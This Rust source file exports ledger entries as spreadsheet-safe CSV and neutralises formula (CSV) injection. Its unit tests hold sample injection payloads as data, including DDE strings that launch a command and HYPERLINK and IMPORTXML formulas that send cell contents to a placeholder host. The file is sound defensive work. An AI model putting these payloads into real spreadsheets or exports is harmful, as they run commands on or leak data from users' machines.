//! CSV as spreadsheets open it: RFC 4180 in UTF-8 with a byte order mark, and no cell that could run.

use std::{
    borrow::Cow,
    io::{self, Write as _},
};

use super::{
    Exporter, Words,
    paper::Paper,
    table::{COLUMNS, Cell, Table},
};
use crate::{ledger, store::EntryRow};

/// CSV on paper.
pub(super) struct Csv<'a, 'm> {
    writer: csv::Writer<&'a mut Paper<'m>>,
    table: Table<'a>,
}

impl<'a, 'm> Csv<'a, 'm> {
    /// Writes the byte order mark and the header.
    pub(super) fn begin(paper: &'a mut Paper<'m>, words: &'a dyn Words) -> io::Result<Self> {
        paper.write_all("\u{feff}".as_bytes())?;
        // Everything but numbers is quoted: a file opened where `;` separates stays in its columns.
        let writer = csv::WriterBuilder::new()
            .quote_style(csv::QuoteStyle::NonNumeric)
            .terminator(csv::Terminator::CRLF)
            .from_writer(paper);
        let mut csv = Self { writer, table: Table::new(words) };
        for column in COLUMNS {
            csv.writer.write_field(harmless(&words.name(column)).as_ref()).map_err(told)?;
        }
        csv.end_row()?;
        Ok(csv)
    }

    fn end_row(&mut self) -> io::Result<()> {
        self.writer.write_record(None::<&[u8]>).map_err(told)
    }
}

impl Exporter for Csv<'_, '_> {
    fn entry(&mut self, row: &EntryRow) -> io::Result<()> {
        let writer = &mut self.writer;
        self.table.row(row, ledger::decode(&row.line).ok().as_ref(), |cell| {
            match cell {
                Cell::Number(number) => writer.write_field(number.to_string()),
                Cell::Moment(moment) => writer.write_field(moment.strftime("%Y-%m-%d %H:%M:%S").to_string()),
                Cell::Text(text) => writer.write_field(harmless(text).as_ref()),
            }
            .map_err(told)
        })?;
        self.end_row()
    }

    fn finish(mut self: Box<Self>) -> io::Result<()> {
        self.writer.flush()
    }
}

/// What the system said, out of the library's wrapping.
fn told(error: csv::Error) -> io::Error {
    match error.into_kind() {
        csv::ErrorKind::Io(error) => error,
        other => io::Error::other(format!("{other:?}")),
    }
}

/// A cell that a spreadsheet takes as text: before a character that begins a formula stands an apostrophe (OWASP, CSV
/// injection), also when blanks or invisible characters, which some programs skip, stand before that one.
///
/// A plain number keeps its sign: it is no formula, and an apostrophe would make it text.
fn harmless(text: &str) -> Cow<'_, str> {
    const BEGINS_FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    let skipped = |c: char| {
        matches!(c, '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}' | '"' | '\'')
            || (c.is_whitespace() && !matches!(c, '\t' | '\r' | '\n'))
    };
    let shown = text.trim_start_matches(skipped);
    if shown.starts_with(BEGINS_FORMULA) && !is_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// An optional sign, digits, at most one point between digits, and nothing else.
fn is_number(text: &str) -> bool {
    let digits = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    let unsigned = text.strip_prefix(['-', '+']).unwrap_or(text);
    unsigned.split_once('.').map_or_else(|| digits(unsigned), |(whole, part)| digits(whole) && digits(part))
}

#[cfg(test)]
mod tests {
    use std::sync::atomic::AtomicBool;

    use super::*;
    use crate::desk::export::{CodeWords, paper::Full};

    #[test]
    fn a_full_disk_is_told_wherever_it_fills_up() {
        for room in [0, 100_000, 1_000_000] {
            let never = AtomicBool::new(false);
            let mut paper = Paper::new(Full::after(room), &never);
            let write = |paper: &mut Paper<'_>| -> io::Result<()> {
                let mut form = Csv::begin(paper, &CodeWords)?;
                let row = EntryRow { position: 1, log: 1, seq: 1, line: "damaged ".repeat(20) };
                (0..10_000).try_for_each(|_| form.entry(&row))?;
                Box::new(form).finish()
            };
            assert_eq!(write(&mut paper).unwrap_err().kind(), io::ErrorKind::StorageFull, "{room}");
        }
    }

    #[test]
    fn what_begins_like_a_formula_is_text() {
        let formulas = [
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "  =1",
            "\u{a0}=1",
            "\u{3000}＝1",
            "＋1",
            "－1",
            "＠A1",
            "\u{feff}=1",
            "\u{200b}=1",
            "\"=1\"",
            "'=1",
            "=cmd|' /C calc'!A0",
            "+cmd|'/C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://example.invalid?\"&A1,\"x\")",
            "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "-1-",
            "-.5",
            "+1e5",
            "--1",
            "-",
            "=",
        ];
        for formula in formulas {
            assert_eq!(harmless(formula), format!("'{formula}"), "{formula:?}");
        }
    }

    #[test]
    fn what_is_no_formula_stays_as_it_is() {
        let plain =
            ["", "a=1", "20261122-03-0001", "-5", "+5", "-5.25", "12", "1***7X", "—", "李䶮", "a\nb", "a\t", "'tis"];
        for text in plain {
            assert_eq!(harmless(text), text);
        }
    }
}
